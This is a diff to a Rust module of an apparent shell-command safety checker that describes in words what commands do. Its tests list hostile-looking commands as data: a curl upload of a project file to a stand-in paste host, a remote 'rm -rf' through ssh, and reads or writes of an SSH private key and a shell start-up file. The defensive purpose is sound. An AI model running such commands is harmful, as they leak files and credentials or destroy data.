@@ -4,6 +4,7 @@
 use std::collections::{HashMap, HashSet};
 
 use byleave_policy::command::Commands;
+use byleave_policy::programs::Effect;
 use byleave_policy::read::Reading;
 use byleave_policy::{Decision, Finding, Source, Stage, Verdict};
 use byleave_shell::{Span, quoted};
@@ -137,7 +138,7 @@ impl<'d> Judged<'d> {
             let asks: Vec<&Finding> = found.into_iter().filter(|finding| finding.verdict == decision.verdict).collect();
             let mut said = phrases_of(part, &asks, &writes);
             if !told.contains(&at) && !says_why(part, &said) {
-                said.extend(otherwise(&asks, &writes));
+                said.extend(otherwise(part, &asks, &writes));
             }
             if let Some(outer) = part.inside.filter(|_| !said.is_empty() || told.contains(&at)) {
                 told.insert(outer);
@@ -178,11 +179,14 @@ fn phrases_of(part: &Part<'_>, asks: &[&Finding], writes: &HashSet<Span>) -> Vec
     }
     let (floors, others): (Vec<&Finding>, Vec<&Finding>) = asks.iter().partition(|finding| is_floor(finding));
     let phrase = |weight: Weight, finding: &Finding| Phrase { weight, words: finding.reason.to_string() };
-    let mut said: Vec<Phrase> = part.does.as_ref().and_then(|does| words_of(does, part.as_root)).into_iter().collect();
+    let mut said: Vec<Phrase> = part.does.as_ref().and_then(|does| words_of(does, part)).into_iter().collect();
     let ruled = others.iter().filter(|finding| finding.source != Source::None);
     said.extend(ruled.map(|finding| phrase(Weight::Grave, finding)));
-    let told = floors.iter().filter(|floor| adds_to_the_deed(floor, part));
-    said.extend(told.map(|floor| phrase(Weight::Grave, floor)));
+    let told: Vec<&&Finding> = floors.iter().filter(|floor| adds_to_the_deed(floor, part)).collect();
+    // Of several about one word the last says most: that it is outside the project stands in the frame.
+    let later = |at: usize, span: Option<Span>| told.iter().skip(at.saturating_add(1)).any(|other| other.span == span);
+    let last = told.iter().enumerate().filter(|(at, floor)| !is_named(floor) || !later(*at, floor.span));
+    said.extend(last.map(|(_, floor)| phrase(Weight::Grave, floor)));
     // What a floor says of a file that is written, nobody says again.
     let again = |span: &Option<Span>| floors.iter().any(|floor| floor.span == *span);
     let written = others.iter().filter(|one| one.span.is_some_and(|span| writes.contains(&span)) && !again(&one.span));
@@ -195,12 +199,24 @@ fn says_why(part: &Part<'_>, said: &[Phrase]) -> bool {
     part.does.is_some() || said.iter().any(|phrase| phrase.weight >= Weight::Grave)
 }
 
-/// What is said of a command if nothing else is: why no rule speaks for it.
-fn otherwise(asks: &[&Finding], writes: &HashSet<Span>) -> Option<Phrase> {
-    let weight = if asks.iter().any(|finding| is_floor(finding)) { Weight::Grave } else { Weight::Ordinary };
+/// What is said of a command if nothing else is: why no rule speaks for it, and that it is dangerous as a whole.
+fn otherwise(part: &Part<'_>, asks: &[&Finding], writes: &HashSet<Span>) -> Vec<Phrase> {
+    let danger = asks.iter().find(|finding| is_floor(finding));
+    let effect = part.usage.and_then(|usage| usage.effect);
+    let weight = match (danger, effect) {
+        (Some(_), _) => Weight::Grave,
+        (None, Some(Effect::Send | Effect::Fetch | Effect::System | Effect::Delete)) => Weight::Effect,
+        (None, Some(Effect::Read | Effect::Write | Effect::Code | Effect::State | Effect::Run) | None) => {
+            Weight::Ordinary
+        }
+    };
     let plain = |finding: &&&Finding| !is_floor(finding) && !finding.span.is_some_and(|span| writes.contains(&span));
-    let first = asks.iter().find(plain).or(asks.first())?;
-    Some(Phrase { weight, words: first.reason.to_string() })
+    let found = asks.iter().find(plain).into_iter().chain(danger);
+    found.map(|finding| Phrase { weight, words: finding.reason.to_string() }).collect()
+}
+
+const fn is_named(finding: &Finding) -> bool {
+    matches!(finding.stage, Stage::NamedAskFloor)
 }
 
 /// Whether a floor says more of a command than what it does: what is deleted stands in the deed, and what is about all of
@@ -213,7 +229,7 @@ fn adds_to_the_deed(floor: &Finding, part: &Part<'_>) -> bool {
 }
 
 /// A deed in words. What is sent is told by [`crate::Shown::deeds`].
-fn words_of(does: &Does<'_>, as_root: bool) -> Option<Phrase> {
+fn words_of(does: &Does<'_>, part: &Part<'_>) -> Option<Phrase> {
     let (weight, words) = match does {
         Does::Delete { paths, recursive } => {
             let all = match (recursive, paths.len()) {
@@ -233,10 +249,12 @@ fn words_of(does: &Does<'_>, as_root: bool) -> Option<Phrase> {
                 format!("{verb} {} to {}", listed(branches), quoted(to)),
             )
         }
-        Does::Fetch { hosts } => (Weight::Ordinary, format!("fetches from {}", listed(hosts))),
+        Does::Fetch { hosts } => (Weight::Effect, format!("fetches from {}", listed(hosts))),
         Does::Send { .. } => return None,
     };
-    let words = if as_root { format!("{words}, as root") } else { words };
+    let words = if part.as_root { format!("{words}, as root") } else { words };
+    // Its files are those of another machine, or of a container.
+    let words = part.through.map_or(words.clone(), |program| format!("{words}, through {program}"));
     Some(Phrase { weight, words })
 }
 
@@ -282,6 +300,10 @@ mod tests {
                 "curl -d @notes.txt https://paste.example/x",
                 "sends the file `notes.txt` of the project to `paste.example`",
             ),
+            ("ssh prod 'rm -rf /srv/app'", "deletes /srv/app and all in it, through ssh"),
+            ("rm -rf build && npm install", "deletes build and all in it · `npm install` contacts another machine"),
+            ("git reset --hard", "`git reset` writes · high-risk command: `git reset --hard *`"),
+            ("tee ~/.bashrc", "writes /home/mia/.bashrc: shell start-up file"),
             ("cat ~/.ssh/id_rsa", "reads /home/mia/.ssh/id_rsa: private key"),
         ] {
             let gist = of("bash", &json!({ "command": command }));
